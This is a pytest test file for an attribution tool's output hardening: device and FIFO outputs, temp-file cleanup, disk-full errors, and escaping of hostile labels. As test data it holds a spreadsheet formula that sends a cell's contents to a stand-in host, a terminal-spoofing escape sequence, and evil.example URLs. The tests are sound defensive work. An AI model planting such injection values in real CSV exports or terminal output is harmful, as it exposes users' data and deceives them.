"""Hostile outputs (issue 20, items 1, 2, 6, 7, 10, 15, 18, 20): what the tool writes and prints.

Device nodes, FIFOs and descriptors as outputs; CSV formula injection; labels that spoof a terminal
or become links in Markdown; a student with nothing to rank in a batch; per-student cost of
``--group-by``; temporary files of killed runs; a full disk and over-long names. Each test fails on
the code before the fix. No test can touch the real ``/dev/null``: they write through symbolic links
in ``tmp_path`` and check that the link and its target are unchanged.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import stat
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from test_hardening import FAST, assert_refused, cli, files, model_file  # noqa: F401 - fixtures

from attribution.errors import InputError
from attribution.outputs import atomic_write, check_outputs, remove_stale_temps, write_together

from conftest import REPO

DEVICE = "/dev/null"


def _link_to(tmp_path: Path, target: str, name: str) -> Path:
    link = tmp_path / name
    link.symlink_to(target)
    return link


def _device_unchanged(link: Path, target: str = DEVICE) -> bool:
    return link.is_symlink() and os.readlink(link) == target and stat.S_ISCHR(os.stat(target).st_mode)


# -- item 1: a device, FIFO or descriptor named as an output is written through, never replaced ------------
@pytest.mark.parametrize("option", ["-o", "--per-output", "--evidence", "--report"])
def test_item01_rank_outputs_write_through_a_link_to_dev_null(capsys, student_path, model_file, tmp_path,  # noqa: F811
                                                              option):
    suffix = {"-o": ".json", "--per-output": ".csv", "--evidence": ".csv", "--report": ".html"}[option]
    link = _link_to(tmp_path, DEVICE, "out" + suffix)
    rc, _, err = cli(capsys, student_path, "-m", model_file, option, link, "-q")
    assert rc == 0, err
    assert _device_unchanged(link)
    assert sorted(p.name for p in tmp_path.iterdir()) == [link.name]  # no temporary file, no PNG, nothing else


def test_item01_fit_tag_and_report_write_through_a_link_to_dev_null(capsys, files, model_file,  # noqa: F811
                                                                    tmp_path):
    model, tags = _link_to(tmp_path, DEVICE, "model.npz"), _link_to(tmp_path, DEVICE, "tags.jsonl")
    report = _link_to(tmp_path, DEVICE, "report.html")
    assert cli(capsys, "fit", files["ref"], "-o", model, *FAST)[0] == 0
    assert cli(capsys, "tag", files["student"], "-o", tags, "-q")[0] == 0
    assert cli(capsys, files["student"], "-m", model_file, "-o", tmp_path / "result.json", "-q")[0] == 0
    assert cli(capsys, "report", tmp_path / "result.json", "-o", report, "-q")[0] == 0
    assert _device_unchanged(model) and _device_unchanged(tags) and _device_unchanged(report)


def test_item01_two_outputs_may_both_be_dev_null(capsys, student_path, model_file, tmp_path):  # noqa: F811
    link = _link_to(tmp_path, DEVICE, "null.csv")
    rc, _, err = cli(capsys, student_path, "-m", model_file, "-o", link, "--per-output", link, "-q")
    assert rc == 0, err
    assert _device_unchanged(link)


def test_item01_a_fifo_gets_the_bytes_and_stays_a_fifo(capsys, student_path, model_file, tmp_path):  # noqa: F811
    fifo = tmp_path / "result.json"
    os.mkfifo(fifo)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_bytes()), daemon=True)
    reader.start()
    rc, out, err = cli(capsys, student_path, "-m", model_file, "-o", fifo, "-f", "json", "-q")
    reader.join(timeout=60)
    assert rc == 0, err
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert out == ""  # -o FILE leaves stdout quiet
    assert json.loads(received[0])["ranking"][0]["teacher"]


def test_item01_a_named_descriptor_is_written_to_not_replaced(tmp_path):
    """``/dev/stdout`` links to ``/proc/self/fd/1``: a link to ``/dev/fd/N`` of a pipe stands in for it."""
    read_end, write_end = os.pipe()
    try:
        link = _link_to(tmp_path, f"/dev/fd/{write_end}", "stdout.json")
        check_outputs([link])
        with write_together():
            with atomic_write(link) as handle:
                handle.write("first\n")
            with atomic_write(tmp_path / "beside.json") as handle:
                handle.write("{}")
        os.close(write_end)
        write_end = -1
        with os.fdopen(read_end, "rb") as pipe:
            read_end = -1
            assert pipe.read() == b"first\n"
        assert link.is_symlink() and (tmp_path / "beside.json").read_text() == "{}"
    finally:
        for fd in (read_end, write_end):
            if fd >= 0:
                os.close(fd)


def test_item01_nothing_reaches_a_device_when_the_run_fails(tmp_path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    with pytest.raises(RuntimeError), write_together():
        with atomic_write(fifo) as handle:
            handle.write("half")
        raise RuntimeError("later failure")
    # a writer would block until a reader came; none was opened, and the FIFO is still one
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_item01_a_socket_is_refused(tmp_path):
    server = socket.socket(socket.AF_UNIX)
    try:
        server.bind(str(tmp_path / "s.json"))
        with pytest.raises(InputError) as info:
            check_outputs([tmp_path / "s.json"])
        assert info.value.code == "E121" and "socket" in str(info.value)
    finally:
        server.close()
    assert stat.S_ISSOCK(os.lstat(tmp_path / "s.json").st_mode)


def test_item01_an_existing_regular_file_still_may_not_be_an_input(capsys, files, model_file, tmp_path):  # noqa: F811
    link = _link_to(tmp_path, str(files["student"]), "out.json")
    before = files["student"].read_bytes()
    assert_refused(cli(capsys, files["student"], "-m", model_file, "-o", link), "E120")
    assert files["student"].read_bytes() == before and link.is_symlink()


# -- item 18: temporary files of a killed run -----------------------------------------------------------------
_HOLD = """
import sys, time
from attribution.outputs import atomic_write
with atomic_write(sys.argv[1]) as handle:
    handle.write("partial")
    handle.flush()
    print("ready", flush=True)
    time.sleep(120)
"""


def _writer(target: Path) -> subprocess.Popen:
    proc = subprocess.Popen([sys.executable, "-c", _HOLD, str(target)], cwd=REPO, stdout=subprocess.PIPE, text=True,
                            env={**os.environ, "PYTHONPATH": str(REPO)})
    assert proc.stdout is not None and proc.stdout.readline().strip() == "ready"
    return proc


def _temps(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.iterdir() if p.name.endswith(".tmp"))


def test_item18_a_sigkilled_runs_temporary_file_is_removed_by_the_next_write(tmp_path):
    target = tmp_path / "tags.jsonl"
    live = _writer(target)  # a run still writing to the same output
    try:
        killed = _writer(target)
        killed.send_signal(signal.SIGKILL)
        killed.wait(timeout=30)
        alive = [name for name in _temps(tmp_path) if f".{live.pid}." in name]
        assert len(alive) == 1 and any(f".{killed.pid}." in name for name in _temps(tmp_path))
        mine = tmp_path / f".tags.jsonl.{killed.pid}.0123456x.tmp"  # not a name the tool makes
        mine.write_text("the user's")
        with atomic_write(target) as handle:
            handle.write("done")
        assert target.read_text() == "done"
        assert _temps(tmp_path) == sorted([*alive, mine.name])
    finally:
        live.kill()
        live.wait(timeout=30)


def test_item18_a_locked_temporary_file_is_never_removed(tmp_path):
    """A dead process id is not enough: a process of another PID namespace (a container sharing the folder)
    still holds the file locked."""
    import fcntl

    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True,
                          check=True)
    tmp = tmp_path / f".out.json.{int(gone.stdout)}.0123abcd.tmp"
    tmp.write_text("another container's")
    with open(tmp, "rb") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        assert remove_stale_temps(tmp_path / "out.json") == []
    assert tmp.exists()
    assert remove_stale_temps(tmp_path / "out.json") == [tmp]  # once unlocked, and the process is gone
    assert not tmp.exists()


def test_item18_an_interrupted_commit_leaves_no_temporary_file(tmp_path, monkeypatch):
    real_replace = os.replace

    def replace(src, dst):
        if str(dst).endswith("second.json"):
            raise KeyboardInterrupt
        real_replace(src, dst)

    monkeypatch.setattr(os, "replace", replace)
    with pytest.raises(KeyboardInterrupt), write_together():
        for name in ("first.json", "second.json", "third.json"):
            with atomic_write(tmp_path / name) as handle:
                handle.write(name)
    assert _temps(tmp_path) == []


# -- item 20: a full disk and over-long names are coded errors ------------------------------------------------
def test_item20_disk_full_is_e125_and_leaves_nothing(capsys, student_path, model_file, tmp_path):  # noqa: F811
    full = _link_to(tmp_path, "/dev/full", "out.json")
    rc, _, err = cli(capsys, student_path, "-m", model_file, "-o", full, "--per-output", tmp_path / "p.csv", "-q")
    assert rc == 1 and "[E125]" in err and "unexpected" not in err and "Traceback" not in err, err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.json"]  # the other output does not appear alone
    assert full.is_symlink() and stat.S_ISCHR(os.stat("/dev/full").st_mode)


_FILE_SIZE_LIMIT = """
import os, resource, signal, sys
from attribution.errors import InputError
from attribution.outputs import atomic_write
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (65536, resource.getrlimit(resource.RLIMIT_FSIZE)[1]))
try:
    with atomic_write(os.path.join(sys.argv[1], "big.json")) as handle:
        handle.write("x" * 1_000_000)
except InputError as err:
    print(err.code)
"""


def test_item20_file_size_limit_on_a_regular_file_is_e125(tmp_path):
    """EFBIG (the process's file size limit, like a quota) on a regular file: E125, no temporary file left.
    In a child process: the limit would also hold for pytest's own files."""
    proc = subprocess.run([sys.executable, "-c", _FILE_SIZE_LIMIT, str(tmp_path)], cwd=REPO, capture_output=True,
                          text=True, timeout=120, env={**os.environ, "PYTHONPATH": str(REPO)})
    assert proc.stdout.strip() == "E125", proc.stderr
    assert list(tmp_path.iterdir()) == []


def test_item20_disk_full_on_stdout_is_e125(tmp_path):
    with open("/dev/full", "w") as full:
        proc = subprocess.run([sys.executable, "-m", "attribution", "--version"], cwd=REPO, stdout=full,
                              stderr=subprocess.PIPE, text=True, timeout=120)
    assert proc.returncode == 1 and "[E125]" in proc.stderr and "Traceback" not in proc.stderr, proc.stderr


@pytest.mark.parametrize("where", ["here", "new-folder"])
def test_item20_a_name_too_long_is_e121_before_any_work(capsys, make_jsonl, tmp_path, where):
    broken_ref = make_jsonl(["{not json"], "ref.jsonl")  # reading it would fail with E101: proves no work began
    student = make_jsonl([{"output": "The answer is A."}], "student.jsonl")
    name = "a" * 300 + ".json"
    target = tmp_path / name if where == "here" else tmp_path / "new" / name
    rc, _, err = cli(capsys, student, "-r", broken_ref, "-o", target, *FAST)
    assert rc == 2 and "[E121]" in err and "too long" in err and "E101" not in err and "Traceback" not in err, err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ref.jsonl", "student.jsonl"]


@pytest.mark.parametrize("case, code", [("student", "E109"), ("model", "E126"), ("report-input", "E126")])
def test_item20_an_input_name_too_long_is_a_coded_error(capsys, student_path, model_file, tmp_path,  # noqa: F811
                                                       case, code):
    long = tmp_path / ("s" * 300 + ".json")
    args = {"student": [long.with_suffix(".jsonl"), "-m", model_file], "model": [student_path, "-m", long],
            "report-input": ["report", long, "-o", tmp_path / "r.html"]}[case]
    assert_refused(cli(capsys, *args), code)


# -- item 2: CSV cells a spreadsheet would run as formulas ------------------------------------------------------
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"open")'


@pytest.fixture(scope="module")
def formula_run(tmp_path_factory, reference_records, labelled_records):
    """A grouped rank whose teacher, student, task and id values start with =, +, - and @ (the reader strips a
    leading tab or carriage return)."""
    import dataclasses

    from conftest import write_jsonl

    tmp = tmp_path_factory.mktemp("formulas")
    teachers = {"chatty": FORMULA, "formal": "+formal", "terse": "@terse"}
    ref = write_jsonl(tmp / "ref.jsonl", [{**r.to_dict(), "teacher": teachers[r.teacher], "task": "-" + r.task}
                                          for r in reference_records])
    students = [dataclasses.replace(r, student="@SUM(A1) " + (r.student or ""), task="-" + (r.task or ""),
                                    id="-" + (r.id or "") + "+1") for r in labelled_records]
    stud = write_jsonl(tmp / "students.jsonl", [r.to_dict() for r in students])
    paths = {name: tmp / name for name in ("summary.csv", "per_output.csv", "evidence.csv", "summary.parquet")}
    args = [stud, "-r", ref, "--group-by", "student", "--per-output", paths["per_output.csv"], "--evidence",
            paths["evidence.csv"], "--features", "pos-paper", "-q"]
    from conftest import run_cli

    results = {fmt: run_cli(*args, "-f", fmt, "-o", tmp / f"summary.{suffix}")
               for fmt, suffix in (("csv", "csv"), ("json", "json"))}
    parquet = run_cli(stud, "-r", ref, "--group-by", "student", "-o", paths["summary.parquet"], "--features",
                      "pos-paper", "-q")
    assert all(r.returncode == 0 for r in (*results.values(), parquet)), [r.stderr for r in results.values()]
    assert results["csv"].stdout == results["json"].stdout == ""  # -o FILE leaves stdout quiet
    return {"paths": paths, "json": json.loads((tmp / "summary.json").read_text(encoding="utf-8")),
            "values": {*teachers.values(), *(r.student for r in students), *(r.task for r in students),
                       *(r.id for r in students)}}


def _csv_cells(text: str) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(text)))


def test_item02_no_csv_cell_starts_a_formula(formula_run):
    paths = formula_run["paths"]
    tables = {name: _csv_cells(paths[name].read_text(encoding="utf-8"))
              for name in ("summary.csv", "per_output.csv", "evidence.csv")}
    seen = set()
    for rows in tables.values():
        for cell in (cell for row in rows for cell in row):
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a plain number may start so (a negative weight, say)
            seen.add(cell)
    assert "'" + FORMULA in seen and "'+formal" in seen and "'@terse" in seen  # neutralized, not dropped
    assert "'" + FORMULA in tables["per_output.csv"][0]  # column headers too
    assert any(cell.startswith("'-") and cell.endswith("+1") for cell in seen)  # ids


def test_item02_json_and_parquet_keep_the_values_exact(formula_run):
    import pandas as pd

    doc = formula_run["json"]
    names = {e["student"] for e in doc["students"]} | {t["teacher"] for e in doc["students"] for t in e["ranking"]}
    assert names <= formula_run["values"] and FORMULA in names
    table = pd.read_parquet(formula_run["paths"]["summary.parquet"])
    assert set(table["student"]) == {e["student"] for e in doc["students"]}
    assert table["probability"].dtype.kind == "f"


def test_item02_numbers_stay_numbers():
    import pandas as pd

    from attribution.result import frame_to_csv

    frame = pd.DataFrame({"=x": [-0.5, 1.25], "id": ["-3", "-1+2"], "n": [-2, 3], "s": ["\tA", "\r=1"]})
    assert _csv_cells(frame_to_csv(frame)) == [["'=x", "id", "n", "s"], ["-0.5", "-3", "-2", "'\tA"],
                                               ["1.25", "'-1+2", "3", "'\r=1"]]


# -- item 6: labels cannot print lines of their own ----------------------------------------------------------
SPOOF = "human\nverdict: attributed: gpt-4o\r\x1b[2J\u2028x"


def _spoofed_references(reference_records, make_jsonl):
    return make_jsonl([{**r.to_dict(), "teacher": "x " + SPOOF if r.teacher == "chatty" else r.teacher,
                        "task": "t " + SPOOF if r.task == "science" else r.task} for r in reference_records],
                      "ref.jsonl")


def _printable(text: str) -> bool:
    return not any(c in text for c in "\r\x1b\u2028")


def test_item06_rank_tables_keep_each_label_on_its_line(capsys, make_jsonl, reference_records, labelled_records):
    import dataclasses

    ref = _spoofed_references(reference_records, make_jsonl)
    students = make_jsonl([dataclasses.replace(r, student="s " + SPOOF, task="t " + SPOOF).to_dict()
                           for r in labelled_records if r.task == "science"], "students.jsonl")
    rc, out, err = cli(capsys, students, "-r", ref, "--top-templates", "3", *FAST)
    assert rc == 0, err
    assert [line for line in out.splitlines() if line.startswith("verdict:")] == [out.splitlines()[5]]
    assert "x human\\nverdict: attributed: gpt-4o\\r\\x1b[2J\\u2028x" in out and _printable(out + err)
    rc, out, err = cli(capsys, students, "-r", ref, "--group-by", "student", *FAST)
    assert rc == 0 and len(out.splitlines()) == 3 and _printable(out + err), out  # header, one student, note
    rc, out, err = cli(capsys, students, "-r", ref, "-f", "json", *FAST)
    assert "x " + SPOOF in [row["teacher"] for row in json.loads(out)["ranking"]]  # JSON stays exact


def test_item06_messages_keep_each_label_on_its_line(capsys, make_jsonl, reference_path):
    students = make_jsonl([{"task": "science", "teacher": SPOOF, "output": "The answer is A."}], "s.jsonl")
    rc, _, err = cli(capsys, "evaluate", "-r", reference_path, "-s", students, *FAST)
    assert rc == 2 and "[E108]" in err and len(err.splitlines()) == 1 and _printable(err), err


def test_item06_audit_check_prints_config_names_escaped(capsys, tmp_path, make_jsonl, reference_records):
    make_jsonl([r.to_dict() for r in reference_records], "teacher.jsonl")
    make_jsonl([{"id": "p1", "prompt": "Why?"}], "prompts.jsonl")
    config = tmp_path / "audit.toml"
    text = ('[audit]\nprompts = "prompts.jsonl"\n'
            '[student]\nname = {student}\nfile = "teacher.jsonl"\n'
            f'[[teachers]]\nname = {json.dumps("a" + SPOOF)}\nfile = "teacher.jsonl"\n'
            '[[teachers]]\nname = "b"\nfile = "teacher.jsonl"\n')
    config.write_text(text.format(student='"suspect"'), encoding="utf-8")
    rc, out, err = cli(capsys, "audit", config, "--check")
    assert rc == 0, err
    assert len(out.splitlines()) == 4 and _printable(out) and "human\\nverdict" in out, out
    # the suspect's name titles the report: a line break there is refused at its line (E608), printed escaped
    config.write_text(text.format(student=json.dumps(SPOOF)), encoding="utf-8")
    rc, out, err = cli(capsys, "audit", config, "--check")
    assert rc == 2 and "audit.toml:4:" in err and "[E608]" in err and _printable(err), err


# -- item 7: a URL in a label is no link in a Markdown report ------------------------------------------------
@pytest.mark.parametrize("label", ["see http://evil.example/x?a=1", "www.evil.example", "mail me@evil.example",
                                   "a|b HTTPS://x.example/`q`|c", "``mailto:x@y.example``"])
def test_item07_markdown_labels_with_urls_are_code_spans(label):
    """GitHub links bare URLs, www. and e-mail addresses by itself, escaped or not (cmark-gfm links
    ``a&#64;b.com``); in a code span it links nothing. Checked with a CommonMark parser: no such text is left
    outside code spans, every one comes back whole from a code span, and tables keep their cells."""
    import re

    from markdown_it import MarkdownIt
    from test_hardening import _result

    from attribution.report import render_markdown

    md = render_markdown(_result(label), {"ranking": "r.png"})
    tokens = MarkdownIt("commonmark").enable("table").parse(md)
    children = [c for t in tokens if t.type == "inline" for c in t.children or []]
    assert not [c.content for c in children if c.type == "text" and re.search(r"(?i)://|www\.|@", c.content)]
    words = {w for w in label.split() if re.search(r"(?i)://|www\.|@", w)}
    spans = {c.content for c in children if c.type == "code_inline"}
    assert all(any(word.replace("|", "\\|") in span or word in span for span in spans) for word in words)
    widths: list[set[int]] = []  # per table, the number of cells of each row: one number (no cell was split)
    for token in tokens:
        if token.type == "table_open":
            widths.append(set())
        elif token.type == "tr_open":
            cells = 0
        elif token.type in ("th_open", "td_open"):
            cells += 1
        elif token.type == "tr_close":
            widths[-1].add(cells)
    assert widths and all(len(w) == 1 for w in widths)


# -- item 10: a student with nothing to rank does not abort --group-by ----------------------------------------
@pytest.mark.parametrize("skip_invalid", [False, True])
def test_item10_an_unrankable_student_is_unavailable_and_the_rest_ranked(capsys, make_jsonl, labelled_records,
                                                                        model_file, skip_invalid):  # noqa: F811
    """An all-empty student (valid records: with or without --skip-invalid) and, with --skip-invalid, a student
    whose every record is invalid: each is listed as unavailable with the reason; the others are ranked."""
    rows = [r.to_dict() for r in labelled_records]
    rows += [{"id": "e1", "task": "science", "student": "s-empty", "output": "</s> nannannan"},
             {"id": "e2", "task": "science", "student": "s-empty", "output": "<|endoftext|>"}]
    if skip_invalid:
        rows += [{"id": "b1", "task": "science", "student": "s-bad", "output": None},
                 {"id": "b2", "task": "science", "student": "s-bad"}]
    students = make_jsonl(rows, "students.jsonl")
    flags = ["--skip-invalid"] if skip_invalid else []
    rc, out, err = cli(capsys, students, "-m", model_file, "--group-by", "student", "-f", "json", *flags, *FAST)
    assert rc == 0, err
    entries = {e["student"]: e for e in json.loads(out)["students"]}
    unranked = {"s-empty", "s-bad"} if skip_invalid else {"s-empty"}
    assert {name for name, e in entries.items() if not e["ranking"]} == unranked
    assert all(entries[name]["verdict"]["status"] == "unavailable" and entries[name]["verdict"]["reason"]
               for name in unranked)
    assert "[E209]" in entries["s-empty"]["verdict"]["reason"] and entries["s-empty"]["n_empty"] == 2
    if skip_invalid:
        assert "skipped" in entries["s-bad"]["verdict"]["reason"] and "[E103]" in entries["s-bad"]["verdict"]["reason"]
    assert len(entries) == len({r.student for r in labelled_records}) + len(unranked)
    assert all(e["ranking"] for name, e in entries.items() if name not in unranked)
    rc, out, err = cli(capsys, students, "-m", model_file, "--group-by", "student", *flags)  # not quiet
    assert rc == 0 and "not ranked" in next(line for line in out.splitlines() if line.startswith("s-empty"))
    assert "warning: student 's-empty': not ranked" in err


def test_item10_per_output_with_a_group_whose_every_record_was_skipped(capsys, make_jsonl, student_records,
                                                                       model_file, tmp_path):  # noqa: F811
    """--per-output with --group-by --skip-invalid when one group's every record was skipped: the run
    succeeds (it stopped with E217: the skipped group's entry had no outputs), the table holds the ranked
    group's outputs only, and the batch says why the skipped group is unavailable."""
    kept = [{**r.to_dict(), "id": f"k{i}", "student": "kept"} for i, r in enumerate(student_records[:2])]
    students = make_jsonl([*kept, {"id": "g1", "task": "science", "student": "gone", "output": 3}])
    table, out_json = tmp_path / "per.csv", tmp_path / "out.json"
    rc, _, err = cli(capsys, students, "-m", model_file, "--task", "science", "--group-by", "student",
                     "--skip-invalid", "--per-output", table, "-o", out_json, *FAST)
    assert rc == 0, err
    import pandas as pd

    rows = pd.read_csv(table)
    assert list(rows["student"]) == ["kept", "kept"] and list(rows["id"]) == ["k0", "k1"]
    entries = {e["student"]: e for e in json.loads(out_json.read_text())["students"]}
    gone = entries["gone"]
    assert gone["verdict"]["status"] == "unavailable" and not gone["ranking"]
    assert "skipped" in gone["verdict"]["reason"] and "[E103]" in gone["verdict"]["reason"]
    assert entries["kept"]["ranking"]
    from attribution import load_model
    from attribution.io import RecordReader
    from attribution.result import rank_students

    reader = RecordReader(students, skip_invalid=True)  # the API: the same, at the run's alpha
    batch = rank_students(load_model(model_file), reader, task="science", keep_outputs=True, alpha=0.01)
    assert list(batch.per_output["id"]) == ["k0", "k1"] and batch["gone"].data["verdict"]["alpha"] == 0.01


def test_item10_without_skip_invalid_a_bad_record_still_stops(capsys, make_jsonl, labelled_records, model_file):  # noqa: F811
    students = make_jsonl([r.to_dict() for r in labelled_records] + [{"student": "s-bad", "output": None}])
    assert_refused(cli(capsys, students, "-m", model_file, "--group-by", "student", *FAST), "E103")


# -- item 15: --group-by keeps little state per student, and scores students in shared batches ---------------
def _one_output_students(records, n):
    import dataclasses

    return [dataclasses.replace(records[i % len(records)], id=f"o{i}", student=f"s{i:04d}") for i in range(n)]


def test_item15_group_by_memory_per_student_is_small(reference_records, labelled_records):
    """The peak grows with the students by much less than the two per-feature arrays (16 bytes per feature)
    that every student's ranking state used to keep until the whole batch was done (72 kB a student here)."""
    import gc
    import tracemalloc

    from attribution.api import fit_reference
    from attribution.result import rank_students

    model = fit_reference(reference_records, features="combined")
    n_features = next(iter(model.models_.values())).n_features_in_

    def peak(n: int) -> int:
        gc.collect()
        tracemalloc.start()
        try:
            rank_students(model, _one_output_students(labelled_records, n))
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    peak(10)
    slope = (peak(200) - peak(50)) / 150
    assert slope < 16 * n_features, (slope, n_features)


def test_item15_shared_batches_give_each_student_its_own_result_exactly(reference_records, labelled_records):
    """Students interleaved, batches of 4 shared between them: every entry is still the one-student
    result, bit for bit (each student's sums are taken over its own batches, as if alone)."""
    import dataclasses

    from attribution.api import fit_reference, rank_student
    from attribution.result import rank_students

    model = fit_reference(reference_records, features="pos-paper", batch_size=4)
    records = [dataclasses.replace(r, student=f"s{i % 3}", id=f"o{i}") for i, r in enumerate(labelled_records * 2)]
    batch = rank_students(model, records, keep_outputs=True)
    for result in batch:
        alone = rank_student(model, [r for r in records if r.student == result.student], keep_outputs=True)
        assert result.to_dict() == {"student": result.student, **alone}
